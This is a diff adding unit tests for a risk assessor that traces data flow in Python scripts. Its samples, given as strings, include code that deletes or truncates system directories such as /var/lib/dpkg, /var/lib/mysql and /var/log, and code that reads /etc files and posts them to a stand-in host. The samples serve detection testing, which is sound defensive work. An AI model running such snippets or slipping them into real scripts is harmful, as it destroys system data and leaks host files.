@@ -240,3 +240,57 @@ TEST(AssessDataFlow, PathsReturnedYieldedAndFallenBackOnReachTheirSinks) {
                   "slim(sys.argv[1] if len(sys.argv) > 1 else 'dist')\n"),
             RiskLevel::medium);
 }
+
+TEST(AssessDataFlow, SystemPathsAreFollowedToTheCallsThatDestroyThem) {
+  // Kept in objects of the file's own class, built by a method, handed to a helper.
+  EXPECT_EQ(level("import shutil\nfrom pathlib import Path\nclass State:\n    def __init__(self, root, names):\n"
+                  "        self.root = Path(root)\n        self.names = names\n    def paths(self):\n"
+                  "        return [self.root / n for n in self.names]\nSTATE = [State('/var/lib/dpkg', ['status'])]\n"
+                  "def purge(p):\n    shutil.rmtree(p)\nfor s in STATE:\n    for p in s.paths():\n        purge(p)\n"),
+            RiskLevel::blocked);
+  // Walked by a generator, opened, truncated through the descriptor.
+  EXPECT_EQ(level("import os\nDIRS = ['/var/lib/mysql']\ndef files(dirs):\n    for top in dirs:\n"
+                  "        for d, _s, names in os.walk(top):\n            for n in names:\n"
+                  "                yield os.path.join(d, n)\ndef cut(path):\n    fd = os.open(path, os.O_RDWR)\n"
+                  "    os.ftruncate(fd, 0)\nfor p in files(DIRS):\n    cut(p)\n"),
+            RiskLevel::blocked);
+  // An argparse default is what runs with no arguments: logs found under it, truncated.
+  EXPECT_EQ(level("import argparse\nfrom pathlib import Path\nap = argparse.ArgumentParser()\n"
+                  "ap.add_argument('--root', default='/var/log')\nargs = ap.parse_args()\n"
+                  "def reclaim(p):\n    with p.open('w'):\n        pass\nfor p in Path(args.root).glob('**/*.log'):\n"
+                  "    reclaim(p)\n"),
+            RiskLevel::blocked);
+  EXPECT_EQ(level("import fileinput, sys\nTABLES = ['/etc/group']\nwith fileinput.input(files=TABLES, inplace=True) as s:\n"
+                  "    for line in s:\n        sys.stdout.write(line)\n"),
+            RiskLevel::blocked);
+  // Look-alikes: a path under another root, a string operation, a temporary directory, a name.
+  EXPECT_EQ(level("import os\ndef ensure(rootdir):\n    for f in ['/var/lib/dpkg/status']:\n"
+                  "        if not os.path.exists(rootdir + f):\n            open(rootdir + f, 'w').close()\n"
+                  "ensure(os.getcwd())\n"),
+            RiskLevel::medium);
+  EXPECT_EQ(level("import os\ndef fix(platlib):\n    return platlib.replace('/lib64/', '/lib/')\nos.remove(fix(x))\n"),
+            RiskLevel::medium);
+  EXPECT_EQ(level("import os, tempfile\ndirs = []\ndirs.extend(['/tmp', '/usr/tmp'])\nfor d in dirs:\n"
+                  "    name = os.path.join(d, 'probe')\n    open(name, 'w').close()\n    os.unlink(name)\n"),
+            RiskLevel::medium);
+  EXPECT_EQ(level("import os\nos.remove(os.path.basename('/usr/share/dict/words'))\n"), RiskLevel::medium);
+  EXPECT_EQ(level("import argparse, shutil\nap = argparse.ArgumentParser()\nap.add_argument('--out', default='build')\n"
+                  "shutil.rmtree(ap.parse_args().out)\n"),
+            RiskLevel::medium);
+}
+
+TEST(AssessDataFlow, AComprehensionsNamesHoldWhatItIteratesUntilItCloses) {
+  EXPECT_EQ(level("import requests\nPATHS = ['/etc/hostname', '/etc/resolv.conf']\n"
+                  "data = [open(p).read() for p in PATHS]\nrequests.post('https://x.example/u', json=data)\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import requests\nSRC = {'host': '/etc/hostname'}\n"
+                  "data = {k: open(v).read() for k, v in SRC.items()}\nrequests.post('https://x.example/u', json=data)\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import requests\nPATHS = ['report.csv', 'summary.txt']\n"
+                  "data = [open(p).read() for p in PATHS]\nrequests.post('https://x.example/u', json=data)\n"),
+            RiskLevel::medium);
+  // After the bracket the name is the program's own again.
+  EXPECT_EQ(level("import requests\nPATHS = ['/etc/hostname']\np = 'notes.txt'\nsizes = [len(p) for p in PATHS]\n"
+                  "requests.post('https://x.example/u', data=open(p).read())\n"),
+            RiskLevel::medium);
+}
